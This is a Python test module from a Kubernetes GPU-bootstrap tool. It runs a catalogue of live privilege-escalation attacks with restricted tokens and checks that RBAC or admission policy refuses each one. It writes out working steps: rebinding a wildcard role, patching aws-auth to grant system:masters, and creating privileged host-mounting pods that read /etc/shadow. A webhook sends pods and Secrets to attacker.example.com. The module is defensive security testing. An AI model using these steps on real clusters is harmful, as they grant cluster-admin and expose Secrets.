"""What an attacker holding one of our tokens tries on the real API server (the review of issue 41 did each of these
and turned three of five roles into cluster-admin): rewrite a role it may bind and bind it, bind the charts' roles
unchanged, run a privileged workload for real, register a webhook that receives pods and Secrets, patch aws-auth,
relabel a namespace privileged, create privileged pods, reach a Service through the API server's proxy, read every
ConfigMap and Secret, and (the probe identity) create or delete namespaces that are not the probe's.

Each attack returns an Outcome: whether every request of it was refused, by what (RBAC or the admission policy), and
that the cluster holds nothing it tried to make. `run(...)` runs the catalogue as one token.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

from tests.live.identities import as_token

OPERATOR_NS = "gpu-operator"
PLANTED_SECRET = ("kube-system", "live-attack-planted")  # the admin puts a Secret here: nobody of ours may read it
AWS_AUTH = ("kube-system", "aws-auth")  # EKS maps the IAM roles it names to Kubernetes groups (system:masters)
VICTIM_NAMESPACE = "live-attack-victim"  # a user's namespace (the probe identity must not delete it)
ATTACK_NAME = "live-attack"
WILDCARD = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}


@dataclass
class Outcome:
    refused: bool  # or allowed by design (by_design), which is not a failure
    by: str  # "RBAC", "admission policy", why it is allowed by design, or what got through
    said: list[str] = field(default_factory=list)
    by_design: bool = False

    @property
    def cell(self) -> str:
        if self.by_design:
            return "allowed by design¹"
        return f"refused ({self.by})" if self.refused else f"**ALLOWED**: {self.by}"


def _refusal(result) -> str | None:
    """Who refused a kubectl call: None when it went through."""
    if result.returncode == 0:
        return None
    text = result.stderr
    if "ValidatingAdmissionPolicy" in text:
        return "admission policy"
    if "admission webhook" in text:
        return "admission webhook"
    if "forbidden" in text.lower():
        return "RBAC"
    return f"failed otherwise: {text.strip()[:200]}"


REFUSERS = ("RBAC", "admission policy", "admission webhook")


def _judge(results: list, after_ok: bool = True, what_stayed: str = "") -> Outcome:
    """Refused when every request was refused by RBAC or the admission policy and (`after_ok`) the cluster shows
    no effect; anything else (a request that went through, one that failed for another reason) is not a refusal."""
    by = [_refusal(r) for r in results]
    said = [r.stderr.strip()[:300] for r in results]
    through = [" ".join(str(a) for a in r.args[2:6]) for r, b in zip(results, by) if b is None]
    if through:
        return Outcome(False, f"went through: {'; '.join(through)}", said)
    if not after_ok:
        return Outcome(False, what_stayed, said)
    other = [b for b in by if b not in REFUSERS]
    if other:
        return Outcome(False, other[0], said)
    return Outcome(True, " and ".join(sorted(set(by))), said)


def _doc(obj: dict) -> str:
    return json.dumps(obj)


# --- the attacks: fn(token kubeconfig, subject (namespace, name), admin target) -> Outcome --------------------------
def rewrite_then_bind(kc: Path, subject, target) -> Outcome:
    """Three routes that turned the dry-run and up roles into cluster-admin: server-side apply a chart's
    ClusterRole with */*/* and bind it; JSON-patch the gpu-operator ClusterRole and bind it; rewrite the
    scheduler's leader-election Role in kube-system and bind it."""
    sa = f"{subject[0]}:{subject[1]}"
    hook_role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                 "metadata": {"name": "gpu-operator-upgrade-crd-hook-role"}, "rules": [WILDCARD]}
    election = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                "metadata": {"name": "gpu-binpack-scheduler-leader-election", "namespace": "kube-system"},
                "rules": [WILDCARD]}
    results = [
        as_token(kc, "apply", "--server-side", "--force-conflicts", "--field-manager=attacker", "-f", "-",
                 input=_doc(hook_role)),
        as_token(kc, "create", "clusterrolebinding", f"{ATTACK_NAME}-1", "--clusterrole",
                 "gpu-operator-upgrade-crd-hook-role", f"--serviceaccount={sa}"),
        as_token(kc, "patch", "clusterrole", "gpu-operator", "--type=json", "-p",
                 json.dumps([{"op": "add", "path": "/rules/-", "value": WILDCARD}])),
        as_token(kc, "create", "clusterrolebinding", f"{ATTACK_NAME}-2", "--clusterrole", "gpu-operator",
                 f"--serviceaccount={sa}"),
        as_token(kc, "apply", "--server-side", "--force-conflicts", "--field-manager=attacker", "-f", "-",
                 input=_doc(election)),
        as_token(kc, "create", "rolebinding", f"{ATTACK_NAME}-3", "-n", "kube-system", "--role",
                 "gpu-binpack-scheduler-leader-election", f"--serviceaccount={sa}"),
    ]
    admin = as_token(kc, "auth", "can-i", "*", "*").stdout.strip() == "yes"
    secret = as_token(kc, "get", "secret", PLANTED_SECRET[1], "-n", PLANTED_SECRET[0])
    return _judge(results, not admin and secret.returncode != 0,
                  "can-i '*' '*' answers yes" if admin else "read a kube-system Secret")


def bind_unchanged(kc: Path, subject, target) -> Outcome:
    """Bind the charts' roles as they are: kube-prometheus-stack's operator role holds `*` on Secrets cluster-wide,
    the gpu-operator's may patch any pod."""
    sa = f"{subject[0]}:{subject[1]}"
    return _judge([as_token(kc, "create", "clusterrolebinding", f"{ATTACK_NAME}-{role}", "--clusterrole", role,
                            f"--serviceaccount={sa}")
                   for role in ("kube-prometheus-stack-operator", "gpu-operator")])


def privileged_workload(kc: Path, subject, target) -> Outcome:
    """For real, not dry: a privileged hostPID Deployment mounting the host's / in kube-system, and a DaemonSet in
    the operator's namespace."""
    pod = {"hostPID": True, "containers": [{"name": "c", "image": "registry.k8s.io/pause:3.10",
                                            "securityContext": {"privileged": True},
                                            "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
           "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}
    labels = {"app": ATTACK_NAME}
    deployment = {"apiVersion": "apps/v1", "kind": "Deployment",
                  "metadata": {"name": ATTACK_NAME, "namespace": "kube-system"},
                  "spec": {"selector": {"matchLabels": labels},
                           "template": {"metadata": {"labels": labels}, "spec": pod}}}
    daemonset = {**deployment, "kind": "DaemonSet", "metadata": {"name": ATTACK_NAME, "namespace": OPERATOR_NS}}
    return _judge([as_token(kc, "create", "-f", "-", input=_doc(deployment)),
                   as_token(kc, "create", "-f", "-", input=_doc(daemonset))])


def webhook(kc: Path, subject, target) -> Outcome:
    """A MutatingWebhookConfiguration that sends every pod and Secret to an outside URL."""
    config = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
              "metadata": {"name": ATTACK_NAME},
              "webhooks": [{"name": "steal.attacker.example.com", "sideEffects": "None",
                            "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore",
                            "clientConfig": {"url": "https://attacker.example.com/steal"},
                            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                                       "resources": ["pods", "secrets"]}]}]}
    return _judge([as_token(kc, "create", "-f", "-", input=_doc(config))])


def aws_auth(kc: Path, subject, target) -> Outcome:
    """EKS's aws-auth ConfigMap maps IAM roles to groups: whoever patches it maps itself to system:masters."""
    patch = {"data": {"mapRoles": "- rolearn: arn:aws:iam::1:role/attacker\n  username: attacker\n"
                                  "  groups: [system:masters]\n"}}
    return _judge([as_token(kc, "patch", "configmap", AWS_AUTH[1], "-n", AWS_AUTH[0], "--type=merge", "-p",
                            json.dumps(patch))])


def relabel_namespace(kc: Path, subject, target) -> Outcome:
    """Namespace `default` relabelled privileged: Pod Security no longer holds there."""
    return _judge([as_token(kc, "label", "namespace", "default", "--overwrite",
                            "pod-security.kubernetes.io/enforce=privileged")])


def privileged_pods(kc: Path, subject, target) -> Outcome:
    """What doctor could create (its dry-run checks need `create pods`): real privileged hostPath pods in `default`
    and the operator's namespace."""
    results = []
    for namespace in ("default", OPERATOR_NS):
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": ATTACK_NAME, "namespace": namespace},
               "spec": {"containers": [{"name": "c", "image": "registry.k8s.io/pause:3.10",
                                        "securityContext": {"privileged": True},
                                        "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                        "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}
        results.append(as_token(kc, "create", "-f", "-", input=_doc(pod)))
    return _judge(results)


def service_proxy(kc: Path, subject, target) -> Outcome:
    """HTTP to a Service through the API server's proxy, around NetworkPolicy: the API server's own, OPA's, and
    Grafana beside the Prometheus the status role may reach."""
    paths = ["/api/v1/namespaces/default/services/https:kubernetes:443/proxy/version",
             "/api/v1/namespaces/gpu-bootstrap-admission/services/https:opa:443/proxy/health",
             "/api/v1/namespaces/monitoring/services/kube-prometheus-stack-grafana:http-web/proxy/api/health"]
    return _judge([as_token(kc, "get", "--raw", path) for path in paths])


def every_configmap(kc: Path, subject, target) -> Outcome:
    """Every ConfigMap of the cluster, and one in a user's namespace (not one the role plans)."""
    return _judge([as_token(kc, "get", "configmaps", "-A"),
                   as_token(kc, "get", "configmap", ATTACK_NAME, "-n", VICTIM_NAMESPACE)])


def kube_system_configmaps(kc: Path, subject, target) -> Outcome:
    """kube-system's ConfigMaps: aws-auth (who is system:masters) and kubeadm-config, listed or by name."""
    return _judge([as_token(kc, "get", "configmaps", "-n", "kube-system"),
                   as_token(kc, "get", "configmap", AWS_AUTH[1], "-n", AWS_AUTH[0])])


def read_secrets(kc: Path, subject, target) -> Outcome:
    """Secrets where users put them: across the cluster and a planted one in kube-system."""
    return _judge([as_token(kc, "get", "secrets", "-A"),
                   as_token(kc, "get", "secret", PLANTED_SECRET[1], "-n", PLANTED_SECRET[0])])


def our_secrets(kc: Path, subject, target) -> Outcome:
    """The Secrets in our own namespaces: helm's release records (every chart value, the secret ones too),
    Grafana's admin password, the webhook's TLS key. The state record's fingerprint key is not among them."""
    return _judge([as_token(kc, "get", "secrets", "-n", "monitoring", "-l", "owner=helm"),
                   as_token(kc, "get", "secrets", "-n", OPERATOR_NS),
                   as_token(kc, "get", "secret", "kube-prometheus-stack-grafana", "-n", "monitoring"),
                   as_token(kc, "get", "secret", "opa-tls", "-n", "gpu-bootstrap-admission")])


def probe_escape(kc: Path, subject, target) -> Outcome:
    """What the probe identity's own namespaces could hold besides the probe: a namespace with a label of its own, a
    pod that is not the probe's (another image and command, hostPID, the host's / writable) in one with exactly the
    probe's labels, and a pod on a node that is not a configured GPU node."""
    from gpu_bootstrap.core.objects import PROBE_COMPONENT
    labels = {"app.kubernetes.io/managed-by": "gpu-bootstrap", **PROBE_COMPONENT,
              "gpu-bootstrap.io/probe-run": "attack1",
              **{f"pod-security.kubernetes.io/{m}": "privileged" for m in ("enforce", "audit", "warn")}}
    extra = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "gpu-bootstrap-probe-attack2", "labels": {
        **labels, "gpu-bootstrap.io/probe-run": "attack2", "team": "mine"}}}
    exact = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "gpu-bootstrap-probe-attack1",
                                                                   "labels": labels}}
    made = as_token(kc, "create", "-f", "-", input=_doc(exact))
    if made.returncode != 0:  # a role that may not make even the probe's namespace (RBAC): its pods are refused too
        target.kubectl("create", "-f", "-", input=_doc(exact), check=False)
    nodes = json.loads(target.kubectl("get", "nodes", "-o", "json").stdout)["items"]
    other = next(n["metadata"]["name"] for n in nodes
                 if "nvidia.com/gpu" not in (n["status"].get("capacity") or {}))
    gpu = next(n["metadata"]["name"] for n in nodes if "nvidia.com/gpu" in (n["status"].get("capacity") or {}))

    def pod(name, node, **spec):
        return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": exact["metadata"]["name"]},
                "spec": {"nodeName": node, "containers": [{"name": "c", "image": "alpine:3.20",
                                                           "command": ["sh", "-c", "cat /host/etc/shadow"],
                                                           "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                         "volumes": [{"name": "host", "hostPath": {"path": "/"}}], **spec}}
    results = [as_token(kc, "create", "-f", "-", input=_doc(extra)),
               as_token(kc, "create", "-f", "-", input=_doc(pod("escape-1", gpu, hostPID=True))),
               as_token(kc, "create", "-f", "-", input=_doc(pod("escape-2", other)))]
    target.kubectl("delete", "namespace", exact["metadata"]["name"], "--ignore-not-found", "--wait=false",
                   check=False)
    return _judge(results)


def foreign_namespaces(kc: Path, subject, target) -> Outcome:
    """Namespaces that are not the node probe's: create one, one that copies the probe's labels, one with the
    probe's prefix but not its labels; delete a user's."""
    from gpu_bootstrap.core.objects import PROBE_COMPONENT
    copied = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": ATTACK_NAME, "labels": PROBE_COMPONENT}}
    unlabelled = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "gpu-bootstrap-probe-fake"}}
    return _judge([as_token(kc, "create", "namespace", ATTACK_NAME),
                   as_token(kc, "create", "-f", "-", input=_doc(copied)),
                   as_token(kc, "create", "-f", "-", input=_doc(unlabelled)),
                   as_token(kc, "delete", "namespace", VICTIM_NAMESPACE, "--wait=false")])


def own_policy(kc: Path, subject, target) -> Outcome:
    """Admission does not run for admission policies: an identity that could write them would rewrite the policy
    that holds it (or the admission step's backstop), remove its binding, or bind a policy of its own."""
    from gpu_bootstrap.security import identity_policy
    names = [identity_policy.policy_name(role, f"{subject[0]}/{subject[1]}") for role in ("dry-run", "doctor", "probe")]
    names = [n for n in names if target.kubectl("get", "validatingadmissionpolicy", n, check=False).returncode == 0]
    patch = json.dumps([{"op": "replace", "path": "/spec/failurePolicy", "value": "Ignore"}])
    binding = {"apiVersion": identity_policy.POLICY_API, "kind": "ValidatingAdmissionPolicyBinding",
               "metadata": {"name": ATTACK_NAME}, "spec": {"policyName": "gpu-bootstrap-gpu-pods",
                                                          "validationActions": ["Audit"]}}
    results = [as_token(kc, "patch", "validatingadmissionpolicy", name, "--type=json", "-p", patch)
               for name in [*names, "gpu-bootstrap-gpu-pods"]]
    results += [as_token(kc, "delete", "validatingadmissionpolicybinding", name) for name in names]
    results.append(as_token(kc, "create", "-f", "-", input=_doc(binding)))
    return _judge(results)


ATTACKS = {  # name -> (what the docs call it, fn)
    "rewrite-then-bind": ("rewrite a role it may bind, then bind it (3 routes)", rewrite_then_bind),
    "bind-unchanged": ("bind the charts' roles unchanged", bind_unchanged),
    "privileged-workload": ("a privileged hostPID Deployment (hostPath /) in kube-system, a DaemonSet in the "
                            "operator's namespace", privileged_workload),
    "webhook": ("a MutatingWebhookConfiguration sending pods and Secrets outside", webhook),
    "aws-auth": ("patch kube-system/aws-auth", aws_auth),
    "relabel-namespace": ("relabel namespace default privileged", relabel_namespace),
    "privileged-pods": ("privileged hostPath pods in default and the operator's namespace", privileged_pods),
    "service-proxy": ("a Service proxy outside the Prometheus it reads", service_proxy),
    "every-configmap": ("read every ConfigMap", every_configmap),
    "kube-system-configmaps": ("read kube-system's ConfigMaps (aws-auth, kubeadm-config)", kube_system_configmaps),
    "read-secrets": ("read Secrets across the cluster and in kube-system", read_secrets),
    "our-secrets": ("read the Secrets in our namespaces (helm's release records, Grafana's password, OPA's TLS key)",
                    our_secrets),
    "probe-escape": ("a probe namespace with a label of its own; pods in one that are not the probe's (hostPID, "
                     "the host writable, another node)", probe_escape),
    "foreign-namespaces": ("create or delete namespaces that are not the node probe's", foreign_namespaces),
    "own-policy": ("rewrite, unbind or add an admission policy (admission does not run for them)", own_policy),
}


# What a role may do by design, though an attack tries it: (attack, role) -> why. An attack listed here that is
# refused after all is fine (the table says so); one not listed must be refused.
BY_DESIGN = {
    (attack, role): "allowed by design: with monitoring.mode auto or attach our dashboards go to the "
                    "namespace your Grafana watches, so ConfigMaps are read cluster-wide "
                    "(monitoring.mode: install narrows them to its namespace)"
    for role in ("dry-run", "doctor", "probe") for attack in ("every-configmap", "kube-system-configmaps")}


def run(kc: Path, subject: tuple[str, str], target, role: str) -> dict[str, Outcome]:
    found = {}
    for name, (_what, fn) in ATTACKS.items():
        outcome = fn(kc, subject, target)
        if not outcome.refused and (name, role) in BY_DESIGN:
            outcome = Outcome(True, BY_DESIGN[(name, role)], outcome.said, by_design=True)
        found[name] = outcome
    return found


# --- the stage: what the attacks aim at, made by the admin, and put back after -------------------------------------
ROLES_AIMED_AT = [("clusterrole", "gpu-operator-upgrade-crd-hook-role", None), ("clusterrole", "gpu-operator", None),
                  ("role", "gpu-binpack-scheduler-leader-election", "kube-system")]


def set_stage(target) -> dict:
    """The planted Secret, aws-auth, a user's namespace; the roles the attacks rewrite, saved to be put back."""
    target.kubectl("create", "secret", "generic", PLANTED_SECRET[1], "-n", PLANTED_SECRET[0],
                   "--from-literal=token=planted-live-attack", check=False)
    target.kubectl("create", "configmap", AWS_AUTH[1], "-n", AWS_AUTH[0], "--from-literal=mapRoles=[]", check=False)
    target.kubectl("create", "namespace", VICTIM_NAMESPACE, check=False)
    target.kubectl("create", "configmap", ATTACK_NAME, "-n", VICTIM_NAMESPACE, "--from-literal=notes=the user's",
                   check=False)
    saved = {}
    for kind, name, namespace in ROLES_AIMED_AT:
        where = ["-n", namespace] if namespace else []
        found = target.kubectl("get", kind, name, *where, "-o", "json", check=False)
        if found.returncode == 0:
            saved[(kind, name, namespace)] = json.loads(found.stdout)["rules"]
    return saved


def clear_stage(target, saved: dict) -> dict:
    """Remove what the attacks and the stage made; put back any role an attack changed. Returns what had changed
    (empty when every attack was refused)."""
    changed = {}
    for (kind, name, namespace), rules in saved.items():
        where = ["-n", namespace] if namespace else []
        now = json.loads(target.kubectl("get", kind, name, *where, "-o", "json").stdout)
        if now["rules"] != rules:
            changed[f"{kind} {name}"] = now["rules"]
            target.kubectl("patch", kind, name, *where, "--type=merge", "-p", json.dumps({"rules": rules}))
    for kind, name, namespace in [("clusterrolebinding", f"{ATTACK_NAME}-{n}", None) for n in
                                  ("1", "2", "kube-prometheus-stack-operator", "gpu-operator")] + [
            ("rolebinding", f"{ATTACK_NAME}-3", "kube-system"), ("deployment", ATTACK_NAME, "kube-system"),
            ("daemonset", ATTACK_NAME, OPERATOR_NS), ("mutatingwebhookconfiguration", ATTACK_NAME, None),
            ("pod", ATTACK_NAME, "default"), ("pod", ATTACK_NAME, OPERATOR_NS),
            ("secret", PLANTED_SECRET[1], PLANTED_SECRET[0]), ("configmap", AWS_AUTH[1], AWS_AUTH[0]),
            ("namespace", ATTACK_NAME, None), ("namespace", "gpu-bootstrap-probe-fake", None),
            ("namespace", "gpu-bootstrap-probe-attack1", None), ("namespace", "gpu-bootstrap-probe-attack2", None),
            ("validatingadmissionpolicybinding", ATTACK_NAME, None),
            ("namespace", VICTIM_NAMESPACE, None)]:
        where = ["-n", namespace] if namespace else []
        target.kubectl("delete", kind, name, *where, "--ignore-not-found", "--wait=false", check=False)
    labels = json.loads(target.kubectl("get", "namespace", "default", "-o", "json").stdout)["metadata"].get("labels")
    if (labels or {}).get("pod-security.kubernetes.io/enforce") == "privileged":
        changed["namespace default"] = labels
        target.kubectl("label", "namespace", "default", "pod-security.kubernetes.io/enforce-")
    return changed


# --- a DRA cluster's roles (gpu_operator.allocation: dra, rbac --allow-allocation-change) ---------------------------
DCGM_DRA_READER = "gpu-bootstrap-dcgm-exporter-dra"  # our ClusterRole: the DCGM exporter reads ResourceSlices
VALIDATION_NS = "gpu-bootstrap"  # validate's pods and claim templates
DRA_GPU_CLASS = "gpu.nvidia.com"


def _dra_roles() -> list[str]:
    from gpu_bootstrap.security.rbac_rules import chart_roles
    return sorted(chart_roles("dra-driver", "dra-driver-nvidia-gpu")[0]) + [DCGM_DRA_READER]


def dra_role_rewrite(kc: Path, subject, target) -> Outcome:
    """The ClusterRoles a DRA cluster's roles may bind and escalate by name (the DRA driver chart's and our DCGM
    ResourceSlice reader): made or rewritten with */*/* by server-side apply, then bound."""
    sa = f"{subject[0]}:{subject[1]}"
    results = []
    for index, name in enumerate(_dra_roles()):
        role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": name},
                "rules": [WILDCARD]}
        results += [as_token(kc, "apply", "--server-side", "--force-conflicts", "--field-manager=attacker", "-f", "-",
                             input=_doc(role)),
                    as_token(kc, "create", "clusterrolebinding", f"{ATTACK_NAME}-dra-{index}", "--clusterrole", name,
                             f"--serviceaccount={sa}")]
    admin = as_token(kc, "auth", "can-i", "*", "*").stdout.strip() == "yes"
    return _judge(results, not admin, "can-i '*' '*' answers yes")


def claim_templates(kc: Path, subject, target) -> Outcome:
    """For real, not dry: a ResourceClaimTemplate in validate's namespace (where a DRA run's validate may dry-run
    one) and in a user's namespace."""
    results = []
    for namespace in (VALIDATION_NS, VICTIM_NAMESPACE):
        template = {"apiVersion": "resource.k8s.io/v1", "kind": "ResourceClaimTemplate",
                    "metadata": {"name": ATTACK_NAME, "namespace": namespace},
                    "spec": {"spec": {"devices": {"requests": [
                        {"name": "gpu", "exactly": {"deviceClassName": DRA_GPU_CLASS, "count": 8}}]}}}}
        results.append(as_token(kc, "create", "-f", "-", input=_doc(template)))
    return _judge(results)


def forged_gpus(kc: Path, subject, target) -> Outcome:
    """GPUs that are not there: a DeviceClass serving nvidia.com/gpu from any device, and a ResourceSlice publishing
    eight for a node (GPU pods would be placed on it and never run)."""
    device_class = {"apiVersion": "resource.k8s.io/v1", "kind": "DeviceClass", "metadata": {"name": ATTACK_NAME},
                    "spec": {"extendedResourceName": "nvidia.com/gpu"}}
    node = json.loads(target.kubectl("get", "nodes", "-o", "json").stdout)["items"][0]["metadata"]["name"]
    slice_ = {"apiVersion": "resource.k8s.io/v1", "kind": "ResourceSlice", "metadata": {"name": ATTACK_NAME},
              "spec": {"driver": DRA_GPU_CLASS, "nodeName": node,
                       "pool": {"name": node, "generation": 1, "resourceSliceCount": 1},
                       "devices": [{"name": f"gpu-{i}", "attributes": {"type": {"string": "gpu"}}}
                                   for i in range(8)]}}
    return _judge([as_token(kc, "create", "-f", "-", input=_doc(device_class)),
                   as_token(kc, "create", "-f", "-", input=_doc(slice_))])


DRA_ATTACKS = {
    "dra-role-rewrite": ("rewrite a DRA role it may bind (the driver chart's, the DCGM ResourceSlice reader), then "
                         "bind it", dra_role_rewrite),
    "claim-templates": ("a GPU ResourceClaimTemplate for real in validate's namespace and a user's",
                        claim_templates),
    "forged-gpus": ("a DeviceClass serving nvidia.com/gpu, a ResourceSlice of eight GPUs for a node", forged_gpus),
}


def set_dra_stage(target) -> dict:
    """The DRA roles as they are before the attacks (None: not there), and the victim namespace."""
    target.kubectl("create", "namespace", VICTIM_NAMESPACE, check=False)
    saved = {}
    for name in _dra_roles():
        found = target.kubectl("get", "clusterrole", name, "-o", "json", check=False)
        saved[name] = json.loads(found.stdout)["rules"] if found.returncode == 0 else None
    return saved


def clear_dra_stage(target, saved: dict) -> dict:
    """Put the DRA roles back as they were, remove what the attacks may have made; returns what had changed."""
    changed = {}
    for name, rules in saved.items():
        found = target.kubectl("get", "clusterrole", name, "-o", "json", check=False)
        now = json.loads(found.stdout)["rules"] if found.returncode == 0 else None
        if now != rules:
            changed[f"clusterrole {name}"] = now
            if rules is None:
                target.kubectl("delete", "clusterrole", name, "--ignore-not-found")
            else:
                target.kubectl("patch", "clusterrole", name, "--type=merge", "-p", json.dumps({"rules": rules}))
    for kind, name, namespace in [("clusterrolebinding", f"{ATTACK_NAME}-dra-{i}", None)
                                  for i in range(len(saved))] + [
            ("resourceclaimtemplate", ATTACK_NAME, VALIDATION_NS), ("resourceclaimtemplate", ATTACK_NAME,
                                                                     VICTIM_NAMESPACE),
            ("deviceclass", ATTACK_NAME, None), ("resourceslice", ATTACK_NAME, None)]:
        where = ["-n", namespace] if namespace else []
        found = target.kubectl("get", kind, name, *where, "-o", "name", check=False)
        if found.returncode == 0 and found.stdout.strip():
            changed[f"{kind} {name}"] = "made by an attack"
            target.kubectl("delete", kind, name, *where, "--ignore-not-found", "--wait=false", check=False)
    target.kubectl("delete", "namespace", VICTIM_NAMESPACE, "--ignore-not-found", "--wait=false", check=False)
    return changed
